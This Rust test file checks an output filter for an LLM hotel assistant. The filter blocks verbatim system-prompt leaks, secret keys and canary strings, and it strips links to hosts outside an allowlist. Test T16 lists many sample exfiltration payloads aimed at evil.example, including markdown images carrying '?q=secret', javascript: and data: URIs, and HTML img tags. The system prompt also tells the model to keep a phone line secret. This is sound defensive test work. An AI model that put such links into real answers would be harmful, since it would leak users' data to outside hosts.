//! F2.4 (output), T15, T16.

use super::*;

const PROMPT: &str = "You are Nora, the assistant of the Blue Hotel. Never offer a discount of more than ten percent to anyone. \
    The manager's private line is 5550 and must stay secret.";

struct Keys;

impl SecretFinder for Keys {
    fn contains_secret(&self, word: &str) -> bool {
        word.contains("sk-live-")
    }
}

fn rules() -> Arc<OutputRules> {
    let config = OutputConfig {
        link_hosts: vec!["hotel.example".to_owned(), "*.cdn.example".to_owned()],
        ..OutputConfig::default()
    };
    Arc::new(
        OutputRules::new(&config, PROMPT)
            .with_secrets(Arc::new(Keys))
            .with_canary(&Secret::new("k9x2-77ab-q0zz-w1")),
    )
}

/// Filters a text that comes in pieces of `step` characters.
fn filter(text: &str, step: usize) -> (String, Vec<Finding>) {
    let mut filter = rules().filter();
    let (mut out, mut findings) = (String::new(), Vec::new());
    let chars: Vec<char> = text.chars().collect();
    for delta in chars.chunks(step.max(1)) {
        let released = filter.push(&delta.iter().collect::<String>());
        out.push_str(&released.text);
        findings.extend(released.findings);
    }
    let released = filter.finish();
    out.push_str(&released.text);
    findings.extend(released.findings);
    findings.dedup();
    (out, findings)
}

#[test]
fn f2_4_ordinary_answers_pass_unchanged() {
    for text in [
        "Your table is booked for four at seven. Anything else?",
        "Use a[0] and b < c, or <3 if you like; 5 > 4! [sic] (really)",
        "See https://hotel.example/rooms, or [our rooms](https://hotel.example/rooms).",
        "![lobby](https://img.cdn.example/a.png) is nice",
        "予約は七時です。よろしいですか？",
        "I/O, and/or, 1//2, data: none",
        "",
    ] {
        for step in [1, 3, 1000] {
            assert_eq!(filter(text, step), (text.to_owned(), vec![]), "step {step}");
        }
    }
}

#[test]
fn t15_eight_words_of_the_prompt_do_not_leave() {
    let said = format!("Sure! {PROMPT} That was it.");
    for step in [1, 7, 1000] {
        let (out, findings) = filter(&said, step);
        assert_eq!(findings, [Finding::PromptLeak]);
        assert!(!out.contains("5550"), "{out}");
        assert!(out.ends_with("That was it."), "the answer goes on: {out}");
        let prompt: Vec<u64> = words(PROMPT).collect();
        let spoken: Vec<u64> = words(&out).collect();
        assert!(
            !spoken
                .windows(QUOTE_WORDS)
                .any(|eight| prompt.windows(QUOTE_WORDS).any(|quote| quote == eight))
        );
    }
    // Other punctuation and case make no difference.
    let (out, _) = filter(
        "NEVER, offer - a discount: of MORE than ten percent to anyone",
        2,
    );
    assert!(!out.to_lowercase().contains("percent"));
    // Seven words are chance.
    assert_eq!(
        filter("a discount of more than ten percent is possible", 5).1,
        []
    );
}

#[test]
fn t16_addresses_outside_the_list_do_not_leave() {
    for (said, heard) in [
        (
            "Look ![x](https://evil.example/?q=secret) here",
            "Look  here",
        ),
        (
            "Look [here](https://evil.example/?q=secret) now",
            "Look here now",
        ),
        (
            "[![a](https://evil.example/p.png)](https://hotel.example)",
            "",
        ),
        ("[a ![b](http://evil.example)](https://evil.example)", ""),
        ("go to https://evil.example/?q=secret. Bye", "go to . Bye"),
        ("(http://evil.example)", "()"),
        ("HTTPS://EVIL.EXAMPLE/a b", " b"),
        ("http:\\\\evil.example\\x y", " y"),
        ("![x](//evil.example/a) b", " b"),
        ("![x]( <https://evil.example/a> \"title\" ) b", " b"),
        ("![x](https://hotel.example@evil.example/a) b", " b"),
        ("![x](https://hotel.example.evil.example/a) b", " b"),
        ("![x](https://cdn.example/a) b", " b"),
        ("![x](javascript:alert(1)) b", " b"),
        ("![x](data:text/html,hi) b", " b"),
        ("<img src=\"https://evil.example/a\"> b", " b"),
        ("<img src=//evil.example/a> b", " b"),
        ("<a href='https://evil.example'>text</a>", "text</a>"),
        ("<https://evil.example/a> b", " b"),
        ("[x]: https://evil.example/a \nb", "[x]:  \nb"),
        ("www.evil.example/q b", " b"),
        ("![x](https://evil.example/never-closed", ""),
        ("a![x](https://evil.example/q)", "a"),
    ] {
        for step in [1, 4, 1000] {
            let (out, findings) = filter(said, step);
            assert_eq!(out, heard, "{said} in steps of {step}");
            assert_eq!(findings, [Finding::Link], "{said}");
        }
    }
}

#[test]
fn f2_4_an_open_link_is_held_back() {
    let mut filter = rules().filter();
    assert_eq!(filter.push("see [here](https://evil.exam").text, "see ");
    assert_eq!(filter.push("ple/x)").text, "here");
    // The brackets that never close are given up at the bound.
    let mut filter = rules().filter();
    assert_eq!(filter.push("[").text, "");
    let released = filter.push(&"a ".repeat(MAX_HELD));
    assert!(released.text.len() > MAX_HELD);
}

#[test]
fn f2_4_secrets_do_not_leave() {
    for step in [1, 5, 1000] {
        let (out, findings) = filter("the key is sk-live-123 and done", step);
        assert_eq!(
            (out.as_str(), findings),
            ("the key is and done", vec![Finding::Secret])
        );
    }
}

#[test]
fn f2_4_the_canary_trips_the_session() {
    for said in [
        "a b k9x277abq0zzw1 c d",
        "a b K9X2 77AB-Q0 zzw1 c d",
        "a b k-9-x-2-7-7-a-b-q-0-z-z-w-1 c d",
    ] {
        for step in [1, 1000] {
            let (out, findings) = filter(said, step);
            assert_eq!(findings, [Finding::Canary]);
            assert!(
                !out.contains('d') && !out.to_lowercase().contains("zzw1"),
                "{out}"
            );
        }
    }
    let mut filter = rules().filter();
    filter.push("k9x277abq0zzw1 ");
    assert!(filter.is_tripped());
    assert_eq!(filter.push("more text ").text, "");
    assert_eq!(filter.finish().text, "");
}

proptest::proptest! {
    /// How the model cuts its words into deltas does not matter.
    #[test]
    fn streaming_equals_whole(text in "[a-c \\[\\]()!<>:/.h]{0,60}", step in 1..9_usize) {
        let (whole, streamed) = (filter(&text, 1000), filter(&text, step));
        proptest::prop_assert_eq!(whole.0, streamed.0);
    }
}
